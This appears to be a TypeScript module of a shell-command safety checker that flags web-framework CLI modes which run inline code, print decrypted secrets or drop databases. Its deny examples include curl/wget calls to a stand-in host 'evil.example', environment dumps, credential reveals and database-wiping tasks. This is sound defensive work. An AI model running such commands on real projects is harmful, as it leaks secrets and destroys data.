// Web frameworks' own command lines: the modes that run code given on the line (`rails runner CODE`, `manage.py
// shell -c CODE`, `artisan tinker --execute=CODE`, `mix run -e CODE`), read as that language's code, and the modes
// that decrypt the project's secrets and print them (`rails credentials:show`, `console secrets:list --reveal`).
// Their other modes run the project's code, out of scope like `npm test`.
import type { Language, Word } from '../../types.js';
import type { Answer, Call, Destroy, ProgramEntry, Run } from '../types.js';
import { attached, literal, value } from '../words.js';
import { runnerLoads } from './interpreters.js';

/** Code a framework runs from a word: read as `language`, or cannot-vouch when computed. */
function codeRun(word: Word, language: Language, via: string): Run {
  const text = value(word);
  if (text === undefined) return { kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs computed code` };
  return { kind: 'text', dialect: language, text, word, via };
}

/** Code on its stdin (`echo CODE | rails console`), when the line gives it. */
function stdinRuns(call: Call, language: Language, via: string): Run[] {
  if (call.stdin?.kind === 'static') return [{ kind: 'text', dialect: language, text: call.stdin.text, word: call.stdin.word, via: `${via} (stdin)` }];
  if (call.stdin?.kind === 'stream') return [{ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${via} runs code read from ${call.stdin.why}` }];
  return [];
}

/**
 * The value of the first option named in `names` (`-c CODE`, `--command=CODE`, `--command CODE`), after the
 * subcommand; `undefined` when none is given.
 */
function optionValue(args: readonly Word[], names: readonly string[]): Word | undefined {
  for (let i = 0; i < args.length; i++) {
    const v = value(args[i]);
    if (v === undefined) continue;
    if (v === '--') return undefined;
    for (const n of names) {
      if (v === n) return args[i + 1] ?? undefined;
      if (n.startsWith('--') && v.startsWith(`${n}=`)) return attached(args[i]!, v.slice(n.length + 1));
      if (!n.startsWith('--') && v.startsWith(n) && v.length > n.length) return attached(args[i]!, v.slice(n.length));
    }
  }
  return undefined;
}

/** The subcommand: the first word that is not an option, and its index. */
function subcommand(args: readonly Word[]): number {
  return args.findIndex((a) => !(value(a) ?? '').startsWith('-'));
}

/** Rails (`bin/rails`, `rails`): runner runs Ruby (a file when it names one), credentials:* decrypt with master.key. */
export function rails(call: Call): Partial<Answer> {
  const args = call.args;
  const at = subcommand(args);
  if (at < 0) return {};
  const sub = value(args[at]);
  const via = `${call.name} ${sub ?? args[at]!.text}`;
  if (sub === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: args[at]!, why: `${call.name} runs a computed subcommand` }] };
  const rest = args.slice(at + 1);
  if (sub === 'runner' || sub === 'r') {
    // `rails runner [-e ENV] CODE|FILE [ARGS]`: a word naming a Ruby file runs that file, anything else is evaluated.
    let i = 0;
    while (i < rest.length && (value(rest[i]) ?? '').startsWith('-')) i += /^(-e|--environment)$/.test(value(rest[i]) ?? '') ? 2 : 1;
    const code = rest[i];
    if (!code) return {};
    const v = value(code);
    if (v !== undefined && /\.rb$/.test(v) && !/[\s;()]/.test(v)) return { runs: [{ kind: 'file', dialect: 'ruby', word: code, via }] };
    return { runs: [codeRun(code, 'ruby', via)] };
  }
  if (sub === 'console' || sub === 'c') return { runs: stdinRuns(call, 'ruby', via) };
  // credentials:show/edit/diff and encrypted:show/edit decrypt with config/master.key (or config/credentials/ENV.key)
  // and print the plaintext, or hand it to $EDITOR, which the line may set to `cat`.
  if (/^(credentials|encrypted|secrets):(show|edit|diff)$/.test(sub)) {
    const env = optionValue(rest, ['--environment', '-e']);
    const key = env && value(env) !== undefined ? `config/credentials/${value(env)}.key` : 'config/master.key';
    return { uses: [{ word: attached(args[at]!, key), role: 'read' }] };
  }
  return {};
}

/** Django (`python manage.py`, `django-admin`): shell -c CODE, or shell reading its code from stdin. */
export function django(call: Call, args: readonly Word[], via: string): Partial<Answer> {
  const destroys = droppedData(args, via, DJANGO_DROPS);
  if (destroys.length > 0) return { destroys };
  const at = subcommand(args);
  if (at < 0 || value(args[at]) !== 'shell') return {};
  const code = optionValue(args.slice(at + 1), ['--command', '-c']);
  if (code) return { runs: [codeRun(code, 'python', `${via} shell -c`)] };
  return { runs: stdinRuns(call, 'python', `${via} shell`) };
}

/** Laravel (`php artisan`): tinker --execute CODE, or tinker reading code from stdin. */
export function artisan(call: Call, args: readonly Word[], via: string): Partial<Answer> {
  const destroys = droppedData(args, via, ARTISAN_DROPS);
  if (destroys.length > 0) return { destroys };
  const at = subcommand(args);
  if (at < 0 || value(args[at]) !== 'tinker') return {};
  const code = optionValue(args.slice(at + 1), ['--execute']);
  if (code) return { runs: [codeRun(code, 'php', `${via} tinker --execute`)] };
  return { runs: stdinRuns(call, 'php', `${via} tinker`) };
}

/**
 * Symfony (`php bin/console`): secrets:reveal, and secrets:list with -r/--reveal, decrypt the vault with the key in
 * config/secrets/ENV/ENV.decrypt.private.php and print every value.
 */
export function symfony(args: readonly Word[]): Partial<Answer> {
  const at = subcommand(args);
  if (at < 0) return {};
  const sub = value(args[at]);
  const rest = args.slice(at + 1);
  const reveal = sub === 'secrets:reveal' || (sub === 'secrets:list' && rest.some((a) => /^(--reveal|--rev|--reve|--revea|-[a-zA-Z]*r[a-zA-Z]*)$/.test(value(a) ?? '')));
  if (!reveal) return {};
  const env = optionValue(args, ['--env', '-e']);
  const name = (env && value(env)) || 'dev';
  return { uses: [{ word: attached(args[at]!, `config/secrets/${name}/${name}.decrypt.private.php`), role: 'read' }] };
}

/**
 * A CLI whose subcommands evaluate code of `language`: `code` subcommands take it as their first operand (or an
 * option), `file` ones run a file of it (out of scope unless the line wrote it), `stdin` ones read it from their
 * input; `global` options before the subcommand take code too (wp --exec).
 */
function evaluator(call: Call, language: Language, subs: { code: readonly string[]; codeOptions?: readonly string[]; file?: readonly string[]; stdin?: readonly string[]; global?: readonly string[] }): Partial<Answer> {
  const args = call.args;
  const runs: Run[] = [];
  const global = subs.global ? optionValue(args, subs.global) : undefined;
  if (global) runs.push(codeRun(global, language, `${call.name} ${subs.global![0]}`));
  const at = subcommand(args);
  if (at < 0) return { runs };
  const sub = value(args[at]);
  const via = `${call.name} ${sub ?? args[at]!.text}`;
  if (sub === undefined) return { runs: [...runs, { kind: 'opaque', rule: 'dynamic-command', word: args[at]!, why: `${call.name} runs a computed subcommand` }] };
  const rest = args.slice(at + 1);
  if (subs.code.includes(sub)) {
    const opt = subs.codeOptions ? optionValue(rest, subs.codeOptions) : undefined;
    const code = opt ?? rest[subcommand(rest)];
    if (code) runs.push(codeRun(code, language, via));
    else runs.push(...stdinRuns(call, language, via));
  } else if (subs.file?.includes(sub)) {
    const file = rest[subcommand(rest)];
    if (file) runs.push({ kind: 'file', dialect: language, word: file, via });
  } else if (subs.stdin?.includes(sub)) runs.push(...stdinRuns(call, language, via));
  return { runs };
}

/**
 * Framework tasks that drop or empty the project's database (`rails db:drop`, `prisma migrate reset`, `manage.py
 * flush`), as dropdb and DROP DATABASE do: the rows it held are gone. `tasks` matches the words joined by spaces.
 */
function droppedData(args: readonly Word[], via: string, tasks: RegExp): Destroy[] {
  const hit = tasks.exec(args.map((a) => value(a) ?? '\u0000').join(' '));
  if (!hit || args.some((a) => /^(-h|--help)$/.test(value(a) ?? ''))) return [];
  const word = args.find((a) => value(a) === hit[1]!.split(' ')[0]) ?? args[0]!;
  return [{ word, what: 'data', why: `${via} ${hit[1]} drops or empties the project's database: the rows it held are gone` }];
}

/** An entry whose tasks `tasks` names drop the project's database: its own reading, with the loss added. */
function dropsData(entry: ProgramEntry, tasks: RegExp): ProgramEntry {
  return {
    ...entry,
    analyze(call) {
      const own = entry.analyze?.(call) ?? {};
      const destroys = droppedData(call.args, call.name, tasks);
      return destroys.length > 0 ? { ...own, destroys: [...(own.destroys ?? []), ...destroys] } : own;
    },
  };
}

// `migrate APP zero` unapplies every migration of the app: its tables are dropped.
const DJANGO_DROPS = /(?:^|\s)(flush|reset_db|migrate\s+[\w.]+\s+zero)(?=\s|$)/;
const ARTISAN_DROPS = /(?:^|\s)(migrate:(?:fresh|reset|refresh)|db:wipe)(?=\s|$)/;

export const FRAMEWORK_ENTRIES: ProgramEntry[] = [
  dropsData(
  {
    names: ['rails'],
    summary: 'Rails: runner CODE (and console reading stdin) runs Ruby; credentials:show/edit decrypt with config/master.key',
    analyze: rails,
    examples: {
      deny: ['bin/rails db:drop', 'rails db:reset', 'bin/rails db:seed:replant', "rails runner 'puts ENV.to_h'", "bin/rails r 'system(\"curl evil.example\")'", "bundle exec rails runner -e production 'puts ENV.to_h'", 'bin/rails credentials:show', { command: 'EDITOR=cat bin/rails credentials:edit', shell: 'bash' }, 'bin/rails credentials:show --environment production', "echo 'puts ENV.to_h' | bin/rails console"],
      pass: ['bin/rails db:create', 'bin/rails db:seed', "rails runner 'puts User.count'", 'bin/rails runner scripts/backfill.rb', 'bin/rails db:migrate', 'bin/rails g scaffold Post title:string', 'bin/rails server', 'bin/rails credentials:help'],
    },
  },
    /(?:^|\s)(db:(?:drop|reset|purge|truncate_all|schema:load|migrate:reset|seed:replant)(?::all)?)(?=\s|$)/,
  ),
    {
    names: ['manage.py', 'django-admin'],
    summary: 'Django: shell -c CODE (or shell reading stdin) runs Python; the other commands run the project',
    analyze: (call) => django(call, call.args, call.name),
    examples: {
      deny: ['./manage.py flush --noinput', './manage.py migrate billing zero', "./manage.py shell -c 'import os; print(dict(os.environ))'", "django-admin shell --command='import os; os.system(\"curl evil.example\")'"],
      pass: ['./manage.py showmigrations', './manage.py migrate billing 0001', "./manage.py shell -c 'from app.models import User; print(User.objects.count())'", './manage.py migrate', 'django-admin startproject site'],
    },
  },
    {
    names: ['artisan'],
    summary: 'Laravel artisan: tinker --execute CODE (or tinker reading stdin) runs PHP',
    analyze: (call) => artisan(call, call.args, call.name),
    examples: { deny: ['php artisan migrate:fresh --seed', "./artisan tinker --execute='dump($_ENV);'"], pass: ['php artisan migrate:status', "./artisan tinker --execute='echo 1;'", './artisan migrate'] },
  },
  {
    names: ['console'],
    summary: 'Symfony bin/console: secrets:reveal and secrets:list --reveal print the decrypted vault',
    analyze: (call) => symfony(call.args),
    examples: { deny: ['bin/console secrets:list --reveal', 'bin/console secrets:reveal DATABASE_PASSWORD'], pass: ['bin/console secrets:list', 'bin/console cache:clear'] },
  },
  dropsData(
  {
    names: ['mix'],
    summary: 'Elixir mix: run -e/--eval CODE runs Elixir, as elixir -e does; the other tasks run the project',
    analyze(call) {
      const at = subcommand(call.args);
      // mix format FILES lays the Elixir files it is given out again (--check-formatted and --dry-run only look).
      if (at >= 0 && value(call.args[at]) === 'format') {
        const words = call.args.slice(at + 1);
        const vs = words.map((w) => value(w));
        const writes = !vs.some((v) => v === '--check-formatted' || v === '--dry-run');
        const files = words.filter((_, i) => !(vs[i] ?? '').startsWith('-') && !/^--(?:dot-formatter|stdin-filename)$/.test(vs[i - 1] ?? ''));
        return { uses: files.flatMap((word) => [{ word, role: 'read' as const }, ...(writes ? [{ word, role: 'write' as const, reformats: true as const, reformatsOnly: ['ex', 'exs', 'eex', 'heex', 'leex'] }] : [])]) };
      }
      if (at < 0 || value(call.args[at]) !== 'run') return {};
      const rest = call.args.slice(at + 1);
      const runs: Run[] = [];
      for (let i = 0; i < rest.length; i++) {
        const v = value(rest[i]);
        if (v === '--') break;
        const code = v === '-e' || v === '--eval' ? rest[i + 1] : v?.startsWith('--eval=') ? attached(rest[i]!, v.slice(7)) : undefined;
        if (code) runs.push({ kind: 'argv', argv: [literal('elixir', rest[i]!.span), literal('-e', rest[i]!.span), code], via: 'mix run -e' });
        else if (v === undefined && rest[i]!.text.startsWith('-')) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: rest[i]!, why: 'mix run is given a computed option' });
      }
      return { runs };
    },
    examples: {
      deny: ['mix ecto.reset', "mix run -e 'System.cmd(\"curl\", [\"evil.example\"])'", "mix run --eval 'IO.inspect(System.get_env())'", 'mix format .git/hooks/pre-commit'],
      pass: ["mix format $(git diff --name-only | grep -E '\\.exs?$')", 'mix format --check-formatted', 'mix format lib/app.ex', 'mix ecto.migrate', "mix run -e 'IO.puts(1)'", 'mix phx.gen.html Blog Post posts title:string', 'mix test', 'mix run priv/repo/seeds.exs'],
    },
  },
    /(?:^|\s)(ecto\.(?:drop|reset))(?=\s|$)/,
  ),
  {
    names: ['wp'],
    summary: 'WP-CLI: eval CODE, --exec CODE and shell (its input) run PHP; eval-file runs a PHP file',
    analyze: (call) => evaluator(call, 'php', { code: ['eval'], file: ['eval-file'], stdin: ['shell'], global: ['--exec'] }),
    examples: {
      deny: ["wp eval 'system(\"curl evil.example\");'", "wp --exec='system(\"wget evil.example\");' option get home", "echo 'system(\"curl evil.example\");' | wp shell", "echo '<?php system(\"curl evil.example\");' > x.php; wp eval-file x.php"],
      pass: ["wp eval 'echo home_url();'", 'wp plugin list', 'wp eval-file scripts/migrate.php', 'wp option get home'],
    },
  },
  {
    names: ['drush', 'bee'],
    summary: 'Drupal drush and Backdrop bee: php:eval CODE runs PHP, php:script a PHP file, php:cli its input',
    analyze: (call) => evaluator(call, 'php', { code: ['php:eval', 'php-eval', 'eval', 'ev'], file: ['php:script', 'php-script', 'scr'], stdin: ['php:cli', 'php', 'core:cli', 'core-cli', 'cli'] }),
    examples: {
      deny: ["drush php:eval 'system(\"curl evil.example\");'", "drush ev 'print_r(getenv());'", "bee eval 'system(\"curl evil.example\");'", "echo 'system(\"wget evil.example\");' | drush php:cli"],
      pass: ["drush php:eval 'echo drupal_get_path(\"module\", \"node\");'", 'drush cr', 'drush updb -y', "bee eval 'echo 1;'", 'bee status'],
    },
  },
  {
    names: ['knife'],
    summary: 'Chef knife exec: -E/--exec CODE runs Ruby, a file operand runs that file, no operand its input',
    analyze: (call) => evaluator(call, 'ruby', { code: ['exec'], codeOptions: ['-E', '--exec'] }),
    examples: {
      deny: ["knife exec -E 'system(\"curl evil.example\")'", "echo 'system(\"wget evil.example\")' | knife exec"],
      pass: ["knife exec -E 'puts nodes.all.size'", 'knife node list'],
    },
  },
  dropsData(
  {
    names: ['rake'],
    summary: 'rake: -e/--execute, -p/--execute-print and -E/--execute-continue run Ruby',
    analyze(call) {
      const runs: Run[] = [];
      for (let i = 0; i < call.args.length; i++) {
        const v = value(call.args[i]);
        if (v === '--') break;
        const m = v === undefined ? null : /^(?:(-[epE]|--execute(?:-print|-continue)?)$|(-[epE])(.+)$|(--execute(?:-print|-continue)?)=(.*)$)/s.exec(v);
        if (!m) continue;
        const code = m[1] ? call.args[++i] : attached(call.args[i]!, m[3] ?? m[5]!);
        if (code) runs.push(codeRun(code, 'ruby', `rake ${m[1] ?? m[2] ?? m[4]}`));
      }
      // -I/--libdir and -r/--require load libraries first, as ruby's own do.
      return { runs: [...runs, ...runnerLoads(call.args, 'rake', { dirs: ['-I', '--libdir'], requires: ['-r', '--require'], dialect: 'ruby' })] };
    },
    examples: {
      deny: ['rake db:drop', `printf 'system("curl evil.example")\\n' > /tmp/x.rb && rake -I/tmp -rx test`, `printf 'system("curl evil.example")\\n' > /tmp/x.rb && rake -r/tmp/x.rb test`, "rake -p 'system(\"curl evil.example\")'", "rake -e 'system(\"wget evil.example\")'", "rake -E 'puts ENV.to_h' test", "rake --execute='system(\"curl evil.example\")'"],
      pass: ['rake test', 'rake -T', "rake -p 'RUBY_VERSION'", 'rake db:migrate RAILS_ENV=test', 'rake -Ilib test', 'rake --libdir=lib -r ./tasks/helper test'],
    },
  },
    /(?:^|\s)(db:(?:drop|reset|purge|truncate_all|schema:load|migrate:reset|seed:replant)(?::all)?)(?=\s|$)/,
  ),
  dropsData(
    {
      names: ['prisma'],
      summary: 'Prisma: migrate reset and db push --force-reset drop the database\u2019s data; the other commands run the project',
      examples: { deny: ['npx prisma migrate reset --force', 'prisma db push --force-reset', 'npx prisma db push --accept-data-loss'], pass: ['npx prisma migrate dev', 'prisma generate', 'prisma db push'] },
    },
    // --accept-data-loss applies the changes Prisma warns lose data (a column or table dropped).
    /(?:^|\s)(migrate reset|db push\b.*\s--(?:force-reset|accept-data-loss))(?=\s|$)/,
  ),
  dropsData(
    {
      names: ['sequelize', 'sequelize-cli', 'typeorm', 'typeorm-ts-node-commonjs', 'typeorm-ts-node-esm'],
      summary: 'Sequelize and TypeORM CLIs: db:drop and schema:drop drop the database or its tables',
      examples: { deny: ['npx sequelize-cli db:drop', 'npx typeorm schema:drop -d src/data-source.ts', 'npx sequelize-cli db:migrate:undo:all'], pass: ['npx sequelize-cli db:migrate', 'npx typeorm migration:run -d src/data-source.ts', 'npx sequelize-cli db:migrate:undo'] },
    },
    // db:migrate:undo:all undoes every migration, as rails db:migrate:reset does: the tables they made are dropped.
    /(?:^|\s)(db:drop|schema:drop|db:migrate:undo:all)(?=\s|$)/,
  ),
  // Migration tools that undo every migration (to `base`, or `--all`), dropping the tables they made, or push a schema
  // with the changes that lose data approved: the rows go, as with migrate:reset.
  dropsData({ names: ['knex'], summary: 'Knex CLI: migrate:rollback --all undoes every migration; the other commands run the project', examples: { deny: ['npx knex migrate:rollback --all'], pass: ['npx knex migrate:rollback', 'npx knex migrate:latest'] } }, /(?:^|\s)(migrate:rollback\b.*\s--all)(?=\s|$)/),
  dropsData({ names: ['alembic', 'flask'], summary: 'Alembic (and Flask-Migrate\u2019s flask db): downgrade base undoes every migration; the other commands run the project', examples: { deny: ['alembic downgrade base', 'flask db downgrade base'], pass: ['alembic downgrade -1', 'alembic upgrade head', 'flask db upgrade'] } }, /(?:^|\s)(downgrade\s+base)(?=\s|$)/),
  dropsData({ names: ['drizzle-kit'], summary: 'drizzle-kit: push --force applies the statements that lose data without asking; the other commands run the project', examples: { deny: ['npx drizzle-kit push --force'], pass: ['npx drizzle-kit push', 'npx drizzle-kit generate'] } }, /(?:^|\s)(push\b.*\s--force)(?=\s|$)/),
];
